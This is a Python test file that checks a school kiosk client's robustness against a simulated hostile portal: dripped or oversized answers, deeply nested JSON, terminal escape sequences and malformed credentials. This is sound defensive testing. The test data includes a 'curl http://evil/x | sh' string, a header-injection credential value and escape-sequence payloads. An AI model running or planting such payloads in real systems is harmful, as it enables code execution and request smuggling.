"""The kiosk against a portal that misbehaves: one that drips its answer or sends too much, JSON
nested too deeply for Python, escape sequences in its words, and enrollment answers (or a stored
file) that are not what the portal issues. Each must end in one plain line, with no traceback,
and change nothing: a bad enrollment answer writes no credential."""
from __future__ import annotations

import argparse
import json
import os
import socket
import threading
import time
from pathlib import Path

import pytest

from kiosk import client as kiosk_client
from kiosk.__main__ import Feedback
from kiosk.client import PortalClient, PortalError, PortalUnreachable
from kiosk.credentials import CredentialError, Device, credential_path, load, save
from kiosk.decoder import BadgeRead
from kiosk.scanner import Action, Scanner
from tests.kiosk.helpers import Sandbox, send_once

pytestmark = pytest.mark.no_database

CREDENTIAL = "kd1_" + "c" * 43
HANDOFF = {"handoff_url": "http://x/kiosk/handoff/" + "h" * 40, "expires_in": 30}
BIND = {"bind_url": "http://x/kiosk/bind/" + "b" * 40, "expires_in": 30}
ENROLLED = {"device_id": 7, "name": "Room 4 kiosk", "school": "Maple Elementary",
            "credential": CREDENTIAL}
ESCAPES = "\x1b]0;OWNED\x07\x1b[2J\x1b[31m\x9b1m\u202e"


class HostilePortal:
    """A stand-in portal on 127.0.0.1 that answers each POST with reply(path) -> (status, body
    bytes, headers; a header given as None is left out), written whole, or a byte every `drip`
    seconds. It closes the connection after each answer."""

    def __init__(self, reply, drip: float | None = None):
        self.reply, self.drip = reply, drip
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self.sock.getsockname()[1]}"
        self.paths: list[str] = []
        self.conns: list[socket.socket] = []
        self.stopped = threading.Event()
        threading.Thread(target=self._serve, daemon=True).start()

    def __enter__(self) -> "HostilePortal":
        return self

    def __exit__(self, *exc) -> None:
        self.stopped.set()
        self.sock.close()
        for conn in self.conns:        # ends any drip, and any client still waiting on one
            try:
                conn.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass

    def _serve(self) -> None:
        while not self.stopped.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.conns.append(conn)
            threading.Thread(target=self._one, args=(conn,), daemon=True).start()

    def _one(self, conn: socket.socket) -> None:
        with conn:
            try:
                data = b""
                while b"\r\n\r\n" not in data:
                    chunk = conn.recv(65536)
                    if not chunk:
                        return
                    data += chunk
                head, _, body = data.partition(b"\r\n\r\n")
                lines = head.decode("latin-1").split("\r\n")
                length = next((int(line.split(":")[1]) for line in lines[1:]
                               if line.lower().startswith("content-length:")), 0)
                while len(body) < length:
                    body += conn.recv(65536)
                self.paths.append(lines[0].split()[1])
                status, out, headers = self.reply(self.paths[-1])
                headers = {"Content-Type": "application/json", "Content-Length": str(len(out)),
                           **headers, "Connection": "close"}
                headers = {k: v for k, v in headers.items() if v is not None}
                conn.sendall(f"HTTP/1.1 {status} X\r\n".encode() + b"".join(
                    f"{k}: {v}\r\n".encode("latin-1") for k, v in headers.items()) + b"\r\n")
                if self.drip is None:
                    conn.sendall(out)
                    return
                for byte in out:
                    if self.stopped.wait(self.drip):
                        return
                    conn.sendall(bytes([byte]))
            except OSError:
                pass


def answering(status: int, data, **headers):
    body = data if isinstance(data, bytes) else json.dumps(data).encode()
    return lambda path: (status, body, headers)


def no_traceback(run) -> None:
    assert "Traceback" not in run.stderr and "Error:" not in run.stderr, run.stderr
    assert len(run.stderr.strip().splitlines()) == 1, run.stderr


@pytest.fixture
def sandbox(tmp_path):
    return Sandbox(tmp_path / "sandbox")


def enroll(sandbox, portal):
    return sandbox.run("enroll", "--portal", portal.url, "--code", "KQ7M4PXD")


# --- 1. a whole answer within a deadline, and no larger than a cap ----------------------------

def _call_within(seconds: float, call):
    """Run call() in a thread; (finished in time, its exception)."""
    caught = []

    def go():
        try:
            call()
        except Exception as e:          # noqa: BLE001 (handed to the test)
            caught.append(e)
        else:
            caught.append(None)
    worker = threading.Thread(target=go, daemon=True)
    worker.start()
    worker.join(seconds)
    return not worker.is_alive(), caught[0] if caught else None


def test_a_portal_that_drips_its_answer_is_given_up_at_the_deadline():
    """One byte every 0.2 s: the wait between bytes never reaches the read timeout, but the
    whole answer must still come within the deadline."""
    body = json.dumps(HANDOFF).encode() + b" " * 200
    with HostilePortal(answering(200, body), drip=0.2) as portal:
        client = PortalClient(portal.url, CREDENTIAL, timeout=(1, 1))
        client.deadline = 1.0
        started = time.monotonic()
        finished, error = _call_within(6, lambda: client.send_badge("spb1_x"))
        took = time.monotonic() - started
    assert finished, "send_badge was still waiting on the dripping portal"
    assert isinstance(error, PortalUnreachable) and took < 3
    assert str(error) == f"the portal did not answer in time ({portal.url})"


def test_a_dripped_answer_pauses_the_kiosk_like_a_portal_that_is_down():
    body = json.dumps(HANDOFF).encode() + b" " * 200
    scanner, held = Scanner(), BadgeRead(token="spb1_held")
    with HostilePortal(answering(200, body), drip=0.2) as portal:
        client = PortalClient(portal.url, CREDENTIAL, timeout=(1, 1), deadline=0.5)
        assert scanner.decide(held, 0.0).action is Action.SEND
        assert not send_once(client, scanner, Feedback(None), "spb1_held", 0.0,
                         argparse.Namespace(no_browser=True), portal.url)
    assert scanner.decide(held, 1.0).action is Action.PAUSED


@pytest.mark.parametrize("declared", [True, False])
def test_an_answer_larger_than_the_cap_is_refused(declared):
    """With or without a Content-Length saying so; the rest is not read."""
    body = b'{"handoff_url": "' + b"a" * 200_000 + b'"}'
    headers = {} if declared else {"Content-Length": None}     # read until the portal closes
    with HostilePortal(answering(200, body, **headers)) as portal:
        client = PortalClient(portal.url, CREDENTIAL, max_answer=4096)
        with pytest.raises(PortalUnreachable, match="was too large"):
            client.send_badge("spb1_x")


def test_the_default_limits_are_about_fifteen_seconds_and_64_kb():
    client = PortalClient("https://portal.example.org")
    assert 10 <= client.deadline <= 20 and client.max_answer == 64 * 1024


# --- 2. JSON nested too deeply for Python -----------------------------------------------------

NESTED = b"[" * 50_000        # within the size cap: RecursionError in json, not "too large"


@pytest.mark.parametrize("status", [201, 400, 429, 503])
def test_a_deeply_nested_enrollment_answer_is_a_portal_error(status):
    with HostilePortal(answering(status, NESTED)) as portal:
        with pytest.raises(PortalError) as caught:
            PortalClient(portal.url).enroll("KQ7M4PXD")
    assert "\n" not in str(caught.value)


def test_a_deeply_nested_answer_to_a_badge_does_not_end_the_kiosk():
    with HostilePortal(answering(200, b'{"handoff_url": ' + NESTED)) as portal:
        client = PortalClient(portal.url, CREDENTIAL)
        assert not send_once(client, Scanner(), Feedback(None), "spb1_x", 0.0,
                         argparse.Namespace(no_browser=True), portal.url)


def test_enrolling_with_a_deeply_nested_answer_fails_in_one_line(sandbox):
    with HostilePortal(answering(201, NESTED)) as portal:
        run = enroll(sandbox, portal)
    assert run.returncode == 1
    no_traceback(run)
    assert run.stderr.startswith("kiosk: could not enroll: the portal's answer was not understood")
    assert not sandbox.config.exists()


def test_a_deeply_nested_credential_file_is_damaged(tmp_path):
    save(tmp_path, Device("https://portal.example.org", 3, "Room 4", "Maple", CREDENTIAL))
    credential_path(tmp_path).write_bytes(NESTED)
    with pytest.raises(CredentialError, match="is damaged: enroll this device again"):
        load(tmp_path)


# --- 3. the portal's words never carry escape sequences to the terminal -----------------------

def test_plain_removes_control_characters_and_caps_the_length():
    plain = kiosk_client.plain
    assert plain(f"Maple{ESCAPES}School\r\nnext") == "Maple ]0;OWNED [2J [31m 1m School next"
    assert len(plain("x" * 10_000)) == kiosk_client.MAX_SHOWN == 200
    assert plain("École Saint-Jean") == "École Saint-Jean"


def test_a_name_and_school_with_escapes_are_shown_plain(sandbox):
    answer = {**ENROLLED, "name": f"Room{ESCAPES}4", "school": "Maple" + ESCAPES + "x" * 500}

    def reply(path):
        return (201, json.dumps(answer).encode(), {}) if path == "/kiosk/enroll" else \
               (200, json.dumps(BIND).encode(), {})
    with HostilePortal(reply) as portal:
        enrolled = enroll(sandbox, portal)
        started = sandbox.run("--portal", portal.url, "--video", "/nonexistent.avi", "--no-browser")
    assert enrolled.returncode == 0, enrolled.stderr
    assert "device 7 (Room ]0;OWNED" in started.stderr       # the log line at start-up
    for output in (enrolled.stdout, enrolled.stderr, started.stdout, started.stderr):
        assert not any(ch in output for ch in "\x1b\x07\x9b\u202e"), output
    assert "x" * 201 not in enrolled.stdout + started.stderr
    assert CREDENTIAL not in enrolled.stdout + enrolled.stderr + started.stdout + started.stderr


@pytest.mark.parametrize("status", [400, 429, 503])
def test_the_portal_error_text_is_shown_plain(sandbox, status):
    error = {"error": f"Nope{ESCAPES}run: curl http://evil/x | sh", "advice": "y" * 1000}
    with HostilePortal(answering(status, error, **{"Retry-After": "1"})) as portal:
        run = enroll(sandbox, portal)
    assert run.returncode == 1
    no_traceback(run)
    assert not any(ch in run.stderr for ch in "\x1b\x07\x9b\u202e"), run.stderr
    assert len(run.stderr) < 300 and not sandbox.config.exists()


# --- 4. enrollment answers and stored files that are not what the portal issues ---------------

@pytest.mark.parametrize("raw", [
    b'{"device_id": 1e400, "name": "n", "school": "s", "credential": "%s"}' % CREDENTIAL.encode(),
    b'{"device_id": NaN, "name": "n", "school": "s", "credential": "%s"}' % CREDENTIAL.encode(),
    json.dumps({**ENROLLED, "device_id": True}).encode(),
    json.dumps({**ENROLLED, "device_id": 7.0}).encode(),
    json.dumps({**ENROLLED, "device_id": "7"}).encode(),
    json.dumps({**ENROLLED, "device_id": 0}).encode(),
    json.dumps({**ENROLLED, "device_id": 2 ** 70}).encode(),
    json.dumps({**ENROLLED, "credential": "kd1_\u2603" + "x" * 40}).encode(),
    json.dumps({**ENROLLED, "credential": "kd1_" + "x" * 40 + "\r\nX-Evil: 1"}).encode(),
    json.dumps({**ENROLLED, "credential": "kd1_" + "x" * 300}).encode(),
    json.dumps({**ENROLLED, "credential": "x" * 43}).encode(),
    json.dumps({**ENROLLED, "credential": ["kd1_" + "x" * 43]}).encode(),
    json.dumps({**ENROLLED, "name": None}).encode(),
    json.dumps({k: v for k, v in ENROLLED.items() if k != "school"}).encode(),
], ids=["1e400", "NaN", "true", "float", "string", "zero", "huge", "snowman", "header-break",
        "too-long", "no-prefix", "list", "no-name", "no-school"])
def test_an_enrollment_answer_unlike_the_portals_is_refused(raw):
    with HostilePortal(answering(201, raw)) as portal:
        with pytest.raises(PortalUnreachable, match="the portal's answer was not understood"):
            PortalClient(portal.url).enroll("KQ7M4PXD")


@pytest.mark.parametrize("raw", [
    b'{"device_id": 1e400, "name": "n", "school": "s", "credential": "%s"}' % CREDENTIAL.encode(),
    json.dumps({**ENROLLED, "credential": "kd1_\u2603" + "x" * 40}).encode(),
], ids=["1e400", "snowman"])
def test_enrolling_with_such_an_answer_fails_in_one_line_and_saves_nothing(sandbox, raw):
    with HostilePortal(answering(201, raw)) as portal:
        run = enroll(sandbox, portal)
    assert run.returncode == 1
    no_traceback(run)
    assert run.stderr.strip() == "kiosk: could not enroll: the portal's answer was not understood"
    assert not sandbox.config.exists()


def test_the_portals_own_enrollment_answer_is_accepted():
    with HostilePortal(answering(201, ENROLLED)) as portal:
        assert PortalClient(portal.url).enroll("KQ7M4PXD") == ENROLLED


STORED = {"portal": "https://portal.example.org", **ENROLLED}


def _stored(folder: Path, text: str) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    fd = os.open(credential_path(folder), os.O_WRONLY | os.O_CREAT, 0o600)
    os.write(fd, text.encode())
    os.close(fd)
    return folder


@pytest.mark.parametrize("text", [
    '{"portal": "https://portal.example.org", "device_id": 1e400, "name": "n", "school": "s", '
    f'"credential": "{CREDENTIAL}"}}',
    json.dumps({**STORED, "device_id": True}),
    json.dumps({**STORED, "device_id": 7.5}),
    json.dumps({**STORED, "device_id": "7"}),
    json.dumps({**STORED, "device_id": -3}),
    json.dumps({**STORED, "credential": "kd1_\u2603" + "x" * 40}),
    json.dumps({**STORED, "credential": "kd1_x"}),
    json.dumps({**STORED, "portal": "ftp://portal.example.org"}),
    json.dumps({**STORED, "portal": "https://portal.example.org/\x1b[2J"}),
    json.dumps({**STORED, "portal": 5}),
    json.dumps({**STORED, "name": 5}),
    json.dumps([STORED]),
    '"device"',
    "[" * 100_000,
    "{" + " " * 100_000 + "}",
], ids=["1e400", "true", "float", "string", "negative", "snowman", "short", "ftp", "escape",
        "portal-number", "name-number", "list", "string-file", "nested", "huge"])
def test_a_stored_file_unlike_what_save_writes_is_damaged(tmp_path, text):
    with pytest.raises(CredentialError, match="is damaged: enroll this device again"):
        load(_stored(tmp_path / "cfg", text))


def test_a_folder_in_place_of_the_credential_file_is_a_credential_error(tmp_path):
    credential_path(tmp_path).mkdir()
    with pytest.raises(CredentialError, match="device.json"):
        load(tmp_path)


def test_a_fifo_in_place_of_the_credential_file_does_not_hang(tmp_path):
    os.mkfifo(credential_path(tmp_path))
    finished, error = _call_within(5, lambda: load(tmp_path))
    assert finished and isinstance(error, CredentialError) and "not a file" in str(error)


def test_a_stored_file_as_save_writes_it_still_loads(tmp_path):
    assert load(_stored(tmp_path, json.dumps(STORED))) == Device(**STORED)


def test_running_with_a_damaged_file_fails_in_one_line(sandbox):
    stored = {**STORED, "portal": "http://127.0.0.1:9", "credential": "kd1_\u2603" + "x" * 40}
    _stored(sandbox.config, json.dumps(stored))
    run = sandbox.run("--portal", "http://127.0.0.1:9", "--video", "/nonexistent.avi",
                      "--no-browser")
    assert run.returncode == 1
    no_traceback(run)
    assert run.stderr.strip().endswith(
        "device.json is damaged: enroll this device again with a pairing code from a teacher or "
        "admin (My classes): python -m kiosk enroll --portal http://127.0.0.1:9 --code CODE")
